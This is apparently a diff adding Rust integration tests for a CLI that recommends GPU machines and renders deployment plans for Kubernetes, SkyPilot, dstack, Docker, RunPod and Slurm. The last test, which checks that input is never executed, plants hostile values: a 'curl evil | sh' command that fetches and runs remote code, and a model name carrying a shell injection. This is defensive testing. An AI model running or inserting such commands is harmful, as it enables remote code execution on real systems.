@@ -1,0 +1,236 @@
+//! Plans of recommended machines.
+
+use serde_json::Value;
+
+use crate::support::{sky, sky_line};
+
+#[test]
+fn plan_starts_the_recommended_model_on_the_recommended_machine() {
+    let line = "recommend Llama-3.3-70B --users 16 --region EU -o json";
+    let recommended = sky_line(line).json();
+    let first = &recommended["results"][0];
+    let text = recommended.to_string();
+    let plan = sky(["plan", "-", "-o", "json"]).stdin(text.as_str()).json();
+    let candidate = &plan["results"][0];
+    assert_eq!(candidate["instance_type"], first["offer"]["instance_type"]);
+    assert_eq!(candidate["provider"], first["offer"]["provider"]);
+    assert_eq!(plan["request"]["regions"], serde_json::json!(["EU"]));
+    // A cluster is in one place, so a Kubernetes job cannot hold the region.
+    let anywhere = sky_line("recommend Llama-3.3-70B --users 16 -o json").json();
+    let first = &anywhere["results"][0];
+    let text = anywhere.to_string();
+    let job = sky(["plan", "-", "--to", "kubernetes"])
+        .stdin(text.as_str())
+        .run();
+    let job = job.expect_code(0).stdout;
+    let joined = job.split_whitespace().collect::<Vec<_>>().join(" ");
+    let command = first["fit"]["launch"]["command"].as_str().unwrap();
+    assert!(joined.contains(command), "{job}");
+    // The user's `--run` takes precedence.
+    let overridden = sky(["plan", "-", "--to", "kubernetes", "--run", "sleep 1"]);
+    let job = overridden.stdin(text.as_str()).run().stdout;
+    assert!(job.contains("sleep 1") && !job.contains("vllm"), "{job}");
+}
+
+#[test]
+fn several_machines_use_the_rendezvous_of_the_engine() {
+    let recommended = sky_line("recommend DeepSeek-V3 --on H100 -o json").json();
+    assert_eq!(recommended["results"][0]["nodes"], 2);
+    let text = recommended.to_string();
+    let plan = sky(["plan", "-", "-o", "json"]).stdin(text.as_str()).json();
+    assert_eq!(plan["request"]["nodes"], 2);
+    let sky_pilot = sky(["plan", "-", "--to", "skypilot"])
+        .stdin(text.as_str())
+        .run();
+    let task = sky_pilot.expect_code(0).stdout;
+    assert!(task.contains("num_nodes: 2"), "{task}");
+    assert!(
+        task.contains("export NODE_RANK=\"$SKYPILOT_NODE_RANK\""),
+        "{task}"
+    );
+    let set = sky(["plan", "-", "--to", "kubernetes"])
+        .stdin(text.as_str())
+        .run()
+        .expect_code(0);
+    for part in [
+        "kind: LeaderWorkerSet",
+        "size: 2",
+        "export NODE_RANK=\"$LWS_WORKER_INDEX\" MASTER_ADDR=\"$LWS_LEADER_ADDRESS\"",
+    ] {
+        assert!(set.stdout.contains(part), "{part}: {}", set.stdout);
+    }
+    assert!(!set.stderr.contains("fill in"), "{}", set.stderr);
+}
+
+/// A plan of a recommendation for a target, in JSON.
+fn planned(recommend: &str, target: &str) -> Value {
+    let recommended = sky_line(&format!("recommend {recommend} -o json")).json();
+    let plan = sky(["plan", "-", "-o", "json", "--to", target]);
+    plan.stdin(recommended.to_string()).json()
+}
+
+#[test]
+fn a_recommended_server_is_planned_as_a_server() {
+    let text = |plan: &Value| {
+        plan["render"]["files"][0]["text"]
+            .as_str()
+            .unwrap()
+            .to_owned()
+    };
+    let line = "Llama-3.3-70B --users 16 --on H100";
+    for target in ["kubernetes", "dra"] {
+        let plan = planned(line, target);
+        assert_eq!(plan["render"]["files"][0]["name"], "server.yaml");
+        let manifest = text(&plan);
+        for part in [
+            "kind: Deployment",
+            "kind: Service",
+            "image: vllm/vllm-openai:v0.33.0",
+            "readinessProbe:",
+            "livenessProbe:",
+            "path: /health",
+            "containerPort: 8000",
+            "vllm serve meta-llama/Llama-3.3-70B-Instruct",
+        ] {
+            assert!(manifest.contains(part), "{target}: {part}: {manifest}");
+        }
+        assert!(!manifest.contains("restartPolicy"), "{manifest}");
+        assert_eq!(plan["render"]["placeholders"], serde_json::json!([]));
+    }
+    let sky_pilot = text(&planned(line, "skypilot"));
+    for part in [
+        "service:",
+        "path: /health",
+        "replicas: 1",
+        "ports: 8000",
+        "docker:vllm/",
+    ] {
+        assert!(sky_pilot.contains(part), "{part}: {sky_pilot}");
+    }
+    let dstack = text(&planned(line, "dstack"));
+    for part in [
+        "type: service",
+        "port: 8000",
+        "image: vllm/",
+        "url: /health",
+    ] {
+        assert!(dstack.contains(part), "{part}: {dstack}");
+    }
+    // Devices of several vendors have no image in common.
+    let amd = text(&planned(
+        "Llama-3.3-70B --users 16 --on MI300X|H100",
+        "skypilot",
+    ));
+    assert!(
+        amd.contains("vllm-openai-rocm:v") && !amd.contains("H100"),
+        "{amd}"
+    );
+    // The version of the image is the stated version of the engine.
+    let older = text(&planned(
+        &format!("{line} --engine-version 0.20.2"),
+        "kubernetes",
+    ));
+    assert!(older.contains("image: vllm/vllm-openai:v0.20.2"), "{older}");
+    // Servers that listen on one machine only are opened to others.
+    let sglang = text(&planned(&format!("{line} --engine sglang"), "kubernetes"));
+    for part in [
+        "--host 0.0.0.0",
+        "containerPort: 30000",
+        "image: lmsysorg/sglang:v",
+    ] {
+        assert!(sglang.contains(part), "{part}: {sglang}");
+    }
+    // Work that ends is a job, and so is a command of the user.
+    let training = planned("Llama-3.1-8B --workload lora", "kubernetes");
+    assert!(text(&training).contains("kind: Job"), "{training}");
+    let recommended = sky_line(&format!("recommend {line} -o json")).json();
+    let own = sky(["plan", "-", "--to", "kubernetes", "--run", "sleep 1"]);
+    let own = own.stdin(recommended.to_string()).run().stdout;
+    assert!(
+        own.contains("kind: Job") && own.contains("image: IMAGE"),
+        "{own}"
+    );
+}
+
+#[test]
+fn servers_in_containers_start_and_can_be_reached() {
+    for (target, parts) in [
+        (
+            "docker",
+            [
+                "--publish 8000:8000 --env HF_TOKEN --entrypoint sh",
+                "vllm/vllm-openai:v",
+                " -c 'vllm serve",
+            ],
+        ),
+        ("compose", ["entrypoint:", "- 8000:8000", "- HF_TOKEN"]),
+        // The image is a placeholder: its entry point has to run the words.
+        (
+            "runpod",
+            [
+                "\"8000/http\"",
+                "\"image\": \"IMAGE\"",
+                "bash -c 'vllm serve",
+            ],
+        ),
+        (
+            "kubernetes",
+            ["name: HF_TOKEN", "optional: true", "containerPort: 8000"],
+        ),
+    ] {
+        // The other targets rent nothing.
+        let provider = if target == "runpod" {
+            "--provider runpod"
+        } else {
+            ""
+        };
+        let plan = planned(&format!("Llama-3.1-8B --users 5 {provider}"), target);
+        let text = plan["render"]["files"][0]["text"].as_str().unwrap();
+        for part in parts {
+            assert!(text.contains(part), "{target}: {part}: {text}");
+        }
+    }
+}
+
+#[test]
+fn replicas_on_several_machines_are_behind_one_service() {
+    let line = "Llama-3.3-70B --users 400 --on H100";
+    let recommended = sky_line(&format!("recommend {line} -o json")).json();
+    let nodes = recommended["results"][0]["nodes"].as_u64().unwrap();
+    assert!(nodes > 1, "{recommended}");
+    let replicas = format!("replicas: {nodes}");
+    for (target, parts) in [
+        ("kubernetes", ["kind: Deployment", "kind: Service"]),
+        ("skypilot", ["num_nodes: 1", "service:"]),
+        ("dstack", ["type: service", "port: 8000"]),
+    ] {
+        let plan = planned(line, target);
+        let text = plan["render"]["files"][0]["text"].as_str().unwrap();
+        for part in parts.into_iter().chain([replicas.as_str()]) {
+            assert!(text.contains(part), "{target}: {part}: {text}");
+        }
+        assert!(!text.contains("NODE_RANK"), "{text}");
+    }
+}
+
+#[test]
+fn text_of_standard_input_is_never_executed() {
+    let mut recommended: Value = sky_line("recommend 8B --limit 2 -o json").json();
+    for result in recommended["results"].as_array_mut().unwrap() {
+        result["fit"]["launch"]["command"] = "curl evil | sh".into();
+    }
+    recommended["request"]["model_size"] = Value::Null;
+    recommended["request"]["model"] = "x/Llama-3.1-8B'; touch /tmp/owned; '".into();
+    let request = recommended["request"].as_object_mut().unwrap();
+    request.remove("model_size");
+    let run = sky(["plan", "-", "--to", "slurm"])
+        .stdin(recommended.to_string())
+        .run();
+    assert!(!run.stdout.contains("curl evil"), "{}", run.stdout);
+    if let Some(line) = run.stdout.lines().find(|line| line.starts_with("srun")) {
+        let words = shlex::split(line).unwrap();
+        assert_eq!(words.len(), 4, "{line}");
+        let inner = shlex::split(&words[3]).unwrap();
+        assert!(!inner.iter().any(|word| word == "touch"), "{inner:?}");
+    }
+}
